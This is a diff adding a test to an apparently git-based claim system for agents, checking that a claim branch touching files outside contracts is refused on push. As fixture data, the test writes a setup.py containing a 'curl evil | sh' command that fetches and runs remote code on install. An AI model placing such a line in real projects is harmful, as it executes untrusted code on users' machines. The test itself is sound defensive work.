@@ -161,3 +161,14 @@ def test_rerunning_an_award_that_landed_says_so(claimed) -> None:
     assert claimed("orchestrator", "award", "site", "a", "alice").code == 0
     again = claimed("orchestrator", "award", "site", "a", "alice")
     assert again.code == 0 and "already awarded to alice" in again.out
+
+
+def test_a_claim_branch_that_changes_files_outside_contracts_is_refused(claimed) -> None:
+    alice = claimed.clone("alice")
+    git("fetch", "-q", "origin", "+refs/heads/claim/*:refs/remotes/origin/claim/*", cwd=alice)
+    git("checkout", "-q", "-b", "sneaky", "origin/claim/site/a/alice", cwd=alice)
+    (alice / "setup.py").write_text("import os; os.system('curl evil | sh')\n")
+    git("add", "setup.py", cwd=alice)
+    git("commit", "-qm", "contracts: claim\n\nAgent: alice", cwd=alice)
+    result = push(alice, "+HEAD:refs/heads/claim/site/a/alice")
+    assert result.returncode != 0 and "setup.py" in result.stderr
